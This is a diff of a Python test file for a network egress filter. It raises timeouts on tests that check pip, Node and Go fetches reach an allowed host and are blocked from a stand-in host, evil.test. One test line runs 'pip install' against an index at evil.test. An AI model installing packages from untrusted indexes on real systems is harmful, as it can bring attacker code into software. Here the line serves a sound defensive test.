@@ -93,7 +93,7 @@ def session(base):
         yield made
 
 
-def run(world, session, command, timeout=40):
+def run(world, session, command, timeout=60):
     result = world.server.exec(session, command, timeout)
     assert result["exit_code"] == 0, result
     return result["stdout"]
@@ -124,7 +124,7 @@ def test_pip_installs_a_wheel(base, session, bare, via):
 
 def test_pip_says_what_it_is_refused(base, session):
     result = base.server.exec(
-        session, "pip install --retries 1 --cert ca.pem --index-url https://evil.test/simple x", 40
+        session, "pip install --retries 1 --cert ca.pem --index-url https://evil.test/simple x", 60
     )
     assert result["exit_code"] != 0 and result["egress_denied"] == ["evil.test"]
     assert "403 Forbidden" in result["stderr"]
@@ -302,7 +302,7 @@ def test_fetch_of_node(image, tools_session):
         ".catch(e => { console.log('failed'); })\""
     )
     assert run(image, tools_session, command % "tls.good.test") == "hello from tls.good.test\n"
-    result = image.server.exec(tools_session, command % "evil.test", 30)
+    result = image.server.exec(tools_session, command % "evil.test", 60)
     assert result["stdout"] == "failed\n" and result["egress_denied"] == ["evil.test"]
 
 
@@ -314,5 +314,5 @@ def test_a_static_program_of_go(image, tools_session, bare, via):
         command = BARE + "env SSL_CERT_FILE=$PWD/ca.pem go-get https://%s/"
     assert run(image, tools_session, command % "tls.good.test") == "hello from tls.good.test\n"
     assert brief(image.events(tools_session, 1)[0]) == allow("tls.good.test", via)
-    result = image.server.exec(tools_session, command % "evil.test", 30)
+    result = image.server.exec(tools_session, command % "evil.test", 60)
     assert result["exit_code"] == 1 and result["egress_denied"] == ["evil.test"]
